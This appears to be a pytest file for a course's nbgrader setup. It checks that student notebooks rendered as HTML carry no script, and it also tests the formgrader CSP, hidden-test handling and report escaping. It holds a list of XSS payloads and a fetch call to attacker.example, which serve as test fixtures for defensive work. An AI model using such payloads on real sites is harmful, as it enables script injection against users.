"""Student work rendered as HTML carries no script: the cleaner, the formgrader's and feedback's
exporter as the course configures it, the formgrader's Content-Security-Policy, the hidden-test
marker in an answer, and the instructor's report. (The browser proof is
tests/browser/test_formgrader_hostile.py.)"""
import re
from html.parser import HTMLParser

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from course_helpers import REPO
from grading.course import load_config
from grading.pages import formgrader_csp
from grading.pages.feedback_filter import HideHiddenTests
from grading.pages.sanitize import MATHML_ATTRIBUTES, MATHML_TAGS, clean_html
from grading.reports import report

# every MathML element name a page could hold outside the converter's <math> (for ``dangers``)
MATHML_ELEMENTS_ANY = MATHML_TAGS | {"maction", "mglyph", "malignmark", "annotation-xml", "mlabeledtr",
                                     "mfenced", "mmultiscripts", "mprescripts", "none"}

PAYLOAD = "window.__pwned=1"
HOSTILE = [
    f'<img src=x onerror="{PAYLOAD}">',
    f"<script>{PAYLOAD}</script>",
    f'<a href="javascript:{PAYLOAD}">x</a>',
    f'<a href=" JaVa&#x09;Script:{PAYLOAD}">x</a>',
    f'<svg onload="{PAYLOAD}"><circle r="4"/></svg>',
    f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe>',
    f'<object data="javascript:{PAYLOAD}"></object>',
    f'<embed src="javascript:{PAYLOAD}">',
    f'<form action="javascript:{PAYLOAD}"><button formaction="javascript:{PAYLOAD}">b</button></form>',
    '<base href="http://attacker.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PAYLOAD}">',
    f'<details open ontoggle="{PAYLOAD}">d</details>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    f'<img src="data:text/html,<script>{PAYLOAD}</script>">',
    '<style>@import url(http://attacker.example/x.css);</style>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{PAYLOAD}">m</maction></math>',
    f'<div style="background:url(javascript:{PAYLOAD})">s</div>',
    f'<noscript><p title="</noscript><img src=x onerror={PAYLOAD}>"></noscript>',
]
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "form", "base", "meta", "svg", "style",
                  "math", "frame", "frameset", "link", "noscript", "template"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def dangers(page, ignore=(), mathml=False):
    """Everything in an HTML string that could run script or leave the page, as a browser sees it
    (``ignore``: (tag, attribute) pairs that are the page's own, like nbgrader's styled inputs;
    ``mathml``: <math> allowed when it holds only the converter's presentation MathML)."""
    parser = _Elements()
    parser.feed(page)
    bad = []
    for tag, attrs in parser.found:
        if mathml and tag in MATHML_TAGS:
            bad += [f"{tag}[{name}]" for name in attrs if name not in MATHML_ATTRIBUTES.get(tag, ())]
            continue
        if tag in DANGEROUS_TAGS or tag.startswith("m") and tag in MATHML_ELEMENTS_ANY:
            bad.append(tag)
        for name, value in attrs.items():
            value = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if (tag, name) in ignore:
                continue
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                bad.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data", "xlink:href") and (
                    value.startswith(("javascript:", "vbscript:")) or
                    value.startswith("data:") and not value.startswith("data:image/")):
                bad.append(f"{tag}[{name}={value[:20]}]")
    return bad


@pytest.mark.parametrize("snippet", HOSTILE)
def test_clean_html_leaves_no_way_to_run_script(snippet):
    assert dangers(snippet), "the check must see the danger in the raw snippet"
    assert dangers(clean_html(snippet)) == []


def test_clean_html_keeps_ordinary_markup():
    page = ('<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
            '<p><b>bold</b> <em>it</em> <code>x &lt; y</code> $a &lt; b$ $$\\frac{1}{2}$$</p>'
            '<img src="https://example.org/a.png" alt="web"><img src="figures/b.png" alt="relative">'
            '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
            '<a href="https://example.org/">web</a> <a href="#part-2">anchor</a> <a href="notes.html">rel</a>'
            '<pre><code>&lt;script&gt;</code></pre><ul><li>item</li></ul><blockquote>q</blockquote>')
    out = clean_html(page)
    for kept in ("<table>", "<th>a</th>", 'colspan="2"', "<b>bold</b>", "<code>x &lt; y</code>",
                 "$a &lt; b$", "$$\\frac{1}{2}$$", 'src="https://example.org/a.png"', 'src="figures/b.png"',
                 'src="data:image/png;base64,iVBORw0KGgo="', 'href="https://example.org/"',
                 'href="#student-content-part-2"', 'href="notes.html"', "<pre><code>&lt;script&gt;</code></pre>",
                 "<li>item</li>", "<blockquote>q</blockquote>"):
        assert kept in out, (kept, out)


def _hostile_notebook():
    answer_meta = {"nbgrader": {"grade": True, "solution": True, "grade_id": "derivation",
                                "points": 6, "schema_version": 3}}
    markdown = ("The gradient is $\\partial L/\\partial z_j = P_j - y_j$ and $a<b$.\n\n"
                "| a | b |\n| --- | --- |\n| 1 | 2 |\n\n`<script>` in code\n\n"
                "![fig](https://example.org/f.png)\n\n" + "\n\n".join(HOSTILE)
                + f"\n\n[md link](javascript:{PAYLOAD})")
    code = new_code_cell("display()", metadata={"nbgrader": {"grade": False, "solution": True,
                                                             "grade_id": "softmax", "schema_version": 3}})
    code.outputs = [
        new_output("display_data", data={"text/html": HOSTILE[0] + HOSTILE[1] + "<b>kept</b>",
                                         "text/plain": "x"}),
        new_output("display_data", data={"application/javascript": PAYLOAD, "text/plain": "js"}),
        new_output("display_data",
                   data={"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}"/>'}),
        new_output("display_data", data={"text/html": f"<script>{PAYLOAD}</script>"},
                   metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"text/markdown": HOSTILE[0]}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "m"}}),
    ]
    raw = new_raw_cell(HOSTILE[1] + HOSTILE[0], metadata={"raw_mimetype": "text/html"})
    nb = new_notebook(cells=[new_markdown_cell(markdown, metadata=answer_meta), code, raw])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return nb


def _formgrade_page(nb, config):
    """The submission page as nbgrader's formgrader builds it (formgrader.py: HTMLExporter with the
    course's config and nbgrader's formgrade template)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "conceptual", "notebook_id": "q1", "submission_id": "abc123",
                 "index": 0, "total": 1, "base_url": "", "student": "s1", "last_name": None,
                 "first_name": None, "notebook_path": "autograded/s1/conceptual/q1.ipynb"}
    page, _ = HTMLExporter(config=config).from_notebook_node(nb, resources=resources)
    return page


def _notebook_part(page):
    return page[re.search(r'<div [^>]*id="notebook"', page).start():page.rindex('<div class="help">')]


def test_formgrader_page_with_the_course_config_has_no_student_script():
    page = _formgrade_page(_hostile_notebook(), load_config(REPO))
    part = _notebook_part(page)
    # (nbgrader's score boxes carry style="width: 4em" and style="margin-left: 1em")
    assert dangers(part, ignore={("input", "style"), ("span", "style")}, mathml=True) == []
    assert PAYLOAD not in part  # not even as an attribute value left somewhere
    # ordinary content as markdown renders it: math as MathML (the student's own <math> is
    # dropped: only the two formulas of the answer are there), table, code, image
    assert part.count("<math") == 2, part.count("<math")
    assert 'alttext="\\partial L/\\partial z_j = P_j - y_j"' in part and "<mo>&lt;</mo>" in part
    assert "<table>" in part and "<code>&lt;script&gt;</code>" in part
    assert 'src="https://example.org/f.png"' in part and "<b>kept</b>" in part
    assert "data:image/svg+xml;base64," in part  # an SVG output shown as an image
    assert "application/vnd.jupyter.widget-state+json" not in page
    # the formgrader's own widgets are untouched: score box and comment box of the answer
    assert 'id="derivation"' in page and 'id="derivation-comment"' in page


def test_without_the_course_config_the_same_page_carries_the_script():
    """The check above must be able to fail: stock nbconvert renders the attack as written."""
    config = load_config(REPO)
    del config.HTMLExporter["preprocessors"], config.HTMLExporter["filters"]
    found = dangers(_notebook_part(_formgrade_page(_hostile_notebook(), config)))
    assert {"script", "img[onerror]", "iframe", "svg"} <= set(found), found


def test_feedback_exporter_gets_the_same_cleaning(tmp_path):
    """generate_feedback builds its HTMLExporter from the same config: the hooks are on it."""
    from nbgrader.converters import GenerateFeedback
    config = load_config(REPO)
    converter = GenerateFeedback(config=config)
    # as GenerateFeedback.start() builds it (GetGrades left out: it needs a gradebook)
    exporter = converter.exporter_class(parent=converter, config=converter.config)
    for pp in converter.preprocessors:
        if "GetGrades" not in str(pp):
            exporter.register_preprocessor(pp)
    names = [type(p).__name__ for p in exporter._preprocessors]
    assert "SanitizeStudentHTML" in names and "HideHiddenTests" in names
    nb = _hostile_notebook()
    for cell in nb.cells:  # what GetGrades would put there
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(score=1, comment="")
    grades = {"notebook": "q1", "score": 1, "max_score": 6, "late_penalty": 0}
    page, _ = exporter.from_notebook_node(nb, resources={"nbgrader": grades})
    body = page[page.index("<body"):]
    # the page's own <script> (MathJax) and <style> blocks are nbconvert's; none carries the payload
    assert [d for d in dangers(body, mathml=True) if d not in ("script", "style")] == []
    assert PAYLOAD not in page


# --- the hidden-test marker in an answer ----------------------------------------------------

def _marker_notebook():
    test = new_code_cell("assert f(1) == 1\n### BEGIN HIDDEN TESTS\nassert f(2) == 4  # hidden one\n"
                         "### END HIDDEN TESTS",
                         metadata={"nbgrader": {"grade": True, "solution": False, "locked": True,
                                                "points": 1, "grade_id": "test_f", "schema_version": 3}})
    written = new_markdown_cell("My answer.\n### BEGIN HIDDEN TESTS (I wonder what is here)\nThe end.",
                                metadata={"nbgrader": {"grade": True, "solution": True, "points": 2,
                                                       "grade_id": "why", "schema_version": 3}})
    code = new_code_cell("def f(x):\n    # ### BEGIN HIDDEN TESTS\n    return x * x",
                         metadata={"nbgrader": {"grade": False, "solution": True, "grade_id": "f",
                                                "schema_version": 3}})
    return new_notebook(cells=[code, test, written])


def test_marker_in_an_answer_is_shown_and_hidden_tests_still_go():
    nb, _ = HideHiddenTests().preprocess(_marker_notebook(), {})
    code, test, written = nb.cells
    assert code.source == "def f(x):\n    # ### BEGIN HIDDEN TESTS\n    return x * x"
    assert written.source == "My answer.\n### BEGIN HIDDEN TESTS (I wonder what is here)\nThe end."
    assert test.source == "assert f(1) == 1"


def test_stock_clear_hidden_tests_fails_on_that_answer():
    """What made generate_feedback fail: nbgrader's own preprocessor on the same notebook."""
    from nbgrader.preprocessors import ClearHiddenTests
    with pytest.raises(RuntimeError):
        ClearHiddenTests().preprocess(_marker_notebook(), {})


# --- the formgrader's Content-Security-Policy -----------------------------------------------

def test_csp_allows_exactly_nbgraders_inline_scripts():
    page = _formgrade_page(_hostile_notebook(), load_config(REPO))
    inline = [body for attrs, body in re.findall(r"<script\b([^>]*)>(.*?)</script>", page, re.S)
              if "src=" not in attrs and "x-mathjax-config" not in attrs]
    assert len(inline) == 3  # nbgrader's formgrade macros: ids, toggle_name, tooltips
    assert formgrader_csp.inline_script_hashes(page) == sorted({formgrader_csp._sha256(b) for b in inline})
    # a script that is not nbgrader's, even one that starts like it, gets no hash
    ids_block = inline[0]
    smuggled = [ids_block + "fetch('http://attacker.example/');",
                ids_block.replace('"abc123"', '"x";fetch(1);"'),
                ids_block.replace('"abc123"', '"x</script><script>fetch(1)//"'),
                f"{PAYLOAD}"]
    for body in smuggled:
        assert formgrader_csp.inline_script_hashes(f"<script>{body}</script>") == [], body


def test_submission_page_gets_the_mathjax_standin_right_after_formgrade_js_allowed_by_hash():
    page = _formgrade_page(_hostile_notebook(), load_config(REPO))
    assert formgrader_csp.MATHJAX_STANDIN not in page
    fixed = formgrader_csp.with_mathjax_standin(page)
    standin = fixed.index(f"<script>{formgrader_csp.MATHJAX_STANDIN}</script>")
    assert standin > fixed.index("/formgrader/static/js/formgrade.js")  # it wraps what that defines
    assert fixed.count(formgrader_csp.MATHJAX_STANDIN) == 1
    assert formgrader_csp._sha256(formgrader_csp.MATHJAX_STANDIN) in formgrader_csp.inline_script_hashes(fixed)
    assert formgrader_csp._sha256(formgrader_csp.MATHJAX_STANDIN) not in formgrader_csp.inline_script_hashes(page)
    listing = "<html><head><script src='/formgrader/static/js/manage_assignments.js'></script></head></html>"
    assert formgrader_csp.with_mathjax_standin(listing) == listing  # only submission pages


def test_csp_policy_has_no_unsafe_inline_and_sandboxes_student_files():
    from tornado.httputil import HTTPHeaders, HTTPServerRequest
    transform_cls = formgrader_csp.make_transform("/")
    page = _formgrade_page(_hostile_notebook(), load_config(REPO)).encode()

    def csp(path, body=b"", ctype="text/html; charset=UTF-8"):
        request = HTTPServerRequest(method="GET", uri=path, host="127.0.0.1:8888")
        headers = HTTPHeaders({"Content-Type": ctype, "Content-Security-Policy": "frame-ancestors 'self'"})
        _, out, _ = transform_cls(request).transform_first_chunk(200, headers, body, True)
        return out["Content-Security-Policy"]

    submission = csp("/formgrader/submissions/abc123/", page)
    script_src = re.search(r"script-src ([^;]*)", submission).group(1)
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert "http://127.0.0.1:8888/formgrader/static/" in script_src
    assert len(re.findall(r"'sha256-", script_src)) >= 3
    assert formgrader_csp._sha256(formgrader_csp.MATHJAX_STANDIN) in script_src
    assert "object-src 'none'" in submission and "base-uri 'none'" in submission
    assert "frame-ancestors 'self'" in submission and "sandbox" not in submission
    for listing in ("/formgrader", "/formgrader/gradebook/conceptual/q1", "/formgrader/manage_students"):
        assert "script-src" in csp(listing)
    assert csp("/formgrader/submissions/abc123/evil.html").endswith("sandbox")
    assert csp("/lab") == "frame-ancestors 'self'"  # JupyterLab itself is left alone
    assert formgrader_csp.install() is False  # outside a Jupyter server: nothing to do


# --- the instructor's report ----------------------------------------------------------------

EVIL_ID = '<img src=x onerror="window.__pwned=1">'
EVIL_NAME = "q1<script>window.__pwned=1</script>"


def test_report_escapes_every_gradebook_string(tmp_path):
    from nbgrader.api import Gradebook
    db = f"sqlite:///{tmp_path}/gradebook.db"
    with Gradebook(db) as gb:
        gb.update_or_create_assignment(report.ASSIGNMENT)
        gb.add_notebook(EVIL_NAME, report.ASSIGNMENT)
        gb.add_grade_cell('test_<b onmouseover="x()">', EVIL_NAME, report.ASSIGNMENT, max_score=2, cell_type="code")
        gb.add_grade_cell("why&<i>", EVIL_NAME, report.ASSIGNMENT, max_score=3, cell_type="markdown")
        gb.add_solution_cell("why&<i>", EVIL_NAME, report.ASSIGNMENT)
        gb.add_student(EVIL_ID)
        gb.add_submission(report.ASSIGNMENT, EVIL_ID)
        for grade in gb.find_submission_notebook(EVIL_NAME, report.ASSIGNMENT, EVIL_ID).grades:
            if grade.cell_type == "code":
                grade.auto_score = 0
        gb.db.commit()
    page = report.render(report.collect(db))
    body = page[page.index("<body>"):]
    assert dangers(body) == [], dangers(body)
    assert "<script" not in page and "onerror=" not in page.replace("onerror=&quot;", "")
    assert "&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;" in page  # shown, as text
    assert "q1&lt;script&gt;" in page and "why&amp;&lt;i&gt;" in page
    assert 'http-equiv="Content-Security-Policy"' in page and "script-src" not in page
    assert re.search(r"default-src 'none'", page)


# --- math as MathML, pages that pass axe ----------------------------------------------------

def _markdown_html(source):
    """One markdown cell through the course's HTMLExporter: the rendered cell's HTML."""
    from nbconvert.exporters import HTMLExporter
    page, _ = HTMLExporter(config=load_config(REPO)).from_notebook_node(
        new_notebook(cells=[new_markdown_cell(source)]))
    return page[page.index('<div class="jp-Cell'):page.rindex("</main>")]


def test_math_becomes_mathml_and_only_the_converters_mathml_gets_through():
    from grading.pages.sanitize import MathMLRenderer
    nonce_like = "mathml0123456789abcdefn0e"  # what a placeholder looks like, typed by a student
    part = _markdown_html(
        "## Loss $L$\n\nInline $\\frac{\\partial L}{\\partial z_j} = P_j - y_j$, and a display\n\n"
        "$$L = -\\sum_j y_j \\log(P_j)$$\n\n"
        "Raw: <math><mi>typed</mi><maction actiontype='statusline'>m</maction></math> "
        f"{nonce_like} and $\\unknowncommand{{x}}$ left as written.")
    assert part.count("<math") == 3, part
    assert "<mfrac>" in part and 'display="block"' in part and "<msub>" in part
    assert "typed" not in part and "maction" not in part  # the student's own MathML is dropped
    assert nonce_like in part  # a placeholder of another render is just text
    assert "$\\unknowncommand{x}$" in part  # unreadable LaTeX: as written, not an error box
    assert not re.search(r"\$[^$<]*\\frac", part) and "\\sum" not in part.replace('alttext="L = -\\sum', "")
    heading = re.search(r"<h2[^>]*>", part).group(0)
    assert "<math" not in heading and "mathml" not in heading  # a formula in a heading: a clean id
    assert dangers(part, mathml=True) == []
    assert isinstance(MathMLRenderer().nonce, str) and MathMLRenderer().nonce != MathMLRenderer().nonce


def test_latex_output_shown_as_mathml():
    from grading.pages.sanitize import SanitizeStudentHTML
    cell = new_code_cell("x", outputs=[new_output("display_data", data={
        "text/latex": "$$\\frac{1}{2}$$", "text/plain": "1/2"})])
    nb, _ = SanitizeStudentHTML().preprocess(new_notebook(cells=[cell]), {})
    html = nb.cells[0].outputs[0]["data"]["text/html"]
    assert html.startswith("<math") and "<mfrac>" in html


def test_accessible_css_reaches_wcag_contrast():
    from grading.pages.sanitize import CODE_BACKGROUND, accessible_css, contrast, readable
    css = accessible_css()
    syntax = re.findall(r"\.highlight \.[\w-]+ \{ color: (#[0-9a-f]{6}) \}", css)
    assert len(syntax) >= 10, css  # pygments' default style has that many too-light colours
    assert all(contrast(c, CODE_BACKGROUND) >= 4.5 for c in syntax)
    assert contrast("#aa22ff", CODE_BACKGROUND) < 4.5 <= contrast(readable("#aa22ff"), CODE_BACKGROUND)
    assert "text-decoration: underline" in css


def test_feedback_and_formgrader_pages_get_lang_and_labels():
    from nbgrader.converters import GenerateFeedback

    from grading.pages.sanitize import FeedbackHTMLExporter
    assert GenerateFeedback(config=load_config(REPO)).exporter_class is FeedbackHTMLExporter
    page = formgrader_csp.accessible_formgrader_page(_formgrade_page(_hostile_notebook(), load_config(REPO)))
    assert re.search(r'<html[^>]*\blang="en"', page)
    fields = re.findall(r"<(?:input|textarea)\b[^>]*>", page)
    graded = [f for f in fields if re.search(r'class="(score|extra-credit|comment) tabbable"', f)]
    assert len(graded) >= 3 and all("aria-label=" in f for f in graded), graded
    assert 'aria-label="comment on derivation"' in page
    assert not re.search(r'<ul class="nav text-center">\s*<ul', page)  # no list straight in a list
